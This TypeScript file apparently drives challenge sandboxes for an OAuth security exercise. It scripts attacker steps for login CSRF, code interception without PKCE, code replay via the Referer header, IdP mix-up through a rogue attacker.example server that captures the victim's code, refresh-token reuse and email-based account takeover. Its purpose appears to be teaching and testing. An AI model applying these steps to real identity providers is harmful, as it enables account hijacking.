// The sandboxes of the challenges, as the attacks want them.
import { SandboxPlay } from './sandbox-play'
import type {
  AnswerTarget,
  CodeTarget,
  RefreshTarget,
  SignInTarget,
  TakeoverTarget,
  TwoProvidersTarget,
} from './target'

const CAMPUS = 'https://campus.example'

export function signInSandbox(id: string, guarded: boolean): SignInTarget {
  const play = new SandboxPlay(id, guarded)
  return {
    attackersAnswer: async () => {
      const { location: asked } = await play.send(`${CAMPUS}/login/idp`)
      const { location: answer } = await play.send(asked ?? '')
      if (!answer) throw new Error('the provider did not answer')
      return answer
    },
    victimOpens: async (address) => {
      await play.visit(address)
    },
    victimIsSignedInAsAttacker: async () => (await play.view()).isWon,
  }
}

type Setting = { redirectUri?: string }

/** Whoever authorizes does it in the attacker's view: what the victim's browser answers arrives in the attacker's log. */
export function codeSandbox(
  id: string,
  guarded: boolean,
  { redirectUri = 'https://planner.example/callback' }: Setting = {},
): CodeTarget {
  const play = new SandboxPlay(id, guarded)
  const request = (change: Record<string, string | null>): URL => {
    const url = new URL(`${CAMPUS}/oauth/authorize`)
    const own: Record<string, string | null> = {
      response_type: 'code',
      client_id: 'planner',
      redirect_uri: redirectUri,
      code_challenge: 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM',
      code_challenge_method: 'S256',
    }
    for (const [name, value] of Object.entries({ ...own, ...change }))
      if (value !== null) url.searchParams.set(name, value)
    return url
  }
  return {
    redirectUri,
    authorize: async (who, change) => {
      if (who === 'attacker') return (await play.send(request(change))).location
      const view = id === 'no-pkce' ? await play.act('connect') : await play.visit(request(change))
      const arrived = view.arrivals.at(-1)
      return arrived ? new URL(arrived.url) : null
    },
    exchange: async (form) => {
      const { status, json } = await play.form(`${CAMPUS}/oauth/token`, { client_id: 'planner', ...form })
      return status === 200 ? { accessToken: String(json().access_token) } : null
    },
    ownerOf: async (token) => {
      const { json } = await play.send(`${CAMPUS}/oauth/userinfo`, {
        headers: [['authorization', `Bearer ${token}`]],
      })
      const { name } = json()
      return name === 'Alice' ? 'victim' : name === 'Mallory' ? 'attacker' : null
    },
  }
}

const IDP = 'https://idp.example'

/** From the application's own start to the attacker's session, with whichever code. */
async function openWithCode(play: SandboxPlay, callback: string, code: string): Promise<void> {
  const { location: asked } = await play.send(`${CAMPUS}/login/idp`)
  const query = new URLSearchParams({ code, iss: IDP, state: asked?.searchParams.get('state') ?? '' })
  await play.send(`${CAMPUS}${callback}?${query}`)
}

export function replaySandbox(guarded: boolean): AnswerTarget {
  const play = new SandboxPlay('code-replay', guarded)
  return {
    usedAnswer: async () => {
      const { arrivals } = await play.act('sign-in')
      const [, referer = ''] = arrivals.at(-1)?.headers.find(([name]) => name === 'referer') ?? []
      return new URL(referer)
    },
    openWithCode: (code) => openWithCode(play, '/callback/idp', code),
    isAttackerInVictimsAccount: async () => (await play.view()).isWon,
  }
}

export function mixUpSandbox(guarded: boolean): TwoProvidersTarget {
  const play = new SandboxPlay('mix-up', guarded)
  return {
    codeThatLeaks: async () => {
      const query = `response_type=code&client_id=campus&redirect_uri=${CAMPUS}/callback&state={state}`
      const body = `${IDP}/authorize?${query}`
      await play.send('https://attacker.example/authorize', { method: 'PUT', body })
      const { arrivals } = await play.act('sign-in')
      const tokenRequest = arrivals.find(({ url }) => url === 'https://attacker.example/token')
      return new URLSearchParams(tokenRequest?.body).get('code')
    },
    openWithCode: (code) => openWithCode(play, '/callback', code),
    isAttackerInVictimsAccount: async () => (await play.view()).isWon,
  }
}

export function refreshSandbox(guarded: boolean): RefreshTarget {
  const play = new SandboxPlay('refresh-without-rotation', guarded)
  return {
    stolen: async () =>
      String((await play.send('https://backups.example/alice/planner.json')).json().refresh_token),
    victimRefreshes: async () => {
      await play.act('open')
    },
    refresh: async (refresh_token) => {
      const fields = { grant_type: 'refresh_token', client_id: 'planner', refresh_token }
      const { status, json } = await play.form(`${CAMPUS}/oauth/token`, fields)
      return status === 200 ? { accessToken: String(json().access_token) } : null
    },
    isVictims: async (token) => {
      await play.send(`${CAMPUS}/api/me`, { headers: [['authorization', `Bearer ${token}`]] })
      return (await play.view()).isWon
    },
  }
}

export function takeoverSandbox(id: 'silent-link' | 'pre-registered', guarded: boolean): TakeoverTarget {
  const play = new SandboxPlay(id, guarded)
  const email = 'alice@campus.example'
  return {
    victimSignsIn: async () => {
      if (id === 'pre-registered') await play.act('join')
    },
    claimEmail: async () => {
      if (id === 'pre-registered') await play.form(`${CAMPUS}/accounts`, { email })
      else await play.send(`${IDP}/profile`, { method: 'PATCH', body: `email=${email}` })
    },
    attackerSignsIn: async () => {
      if (id === 'pre-registered') return
      const { location: asked } = await play.send(`${CAMPUS}/login/idp`)
      const { location: answer } = await play.send(asked ?? '')
      await play.send(answer ?? '')
    },
    isAttackerInVictimsAccount: async () => (await play.view()).isWon,
  }
}
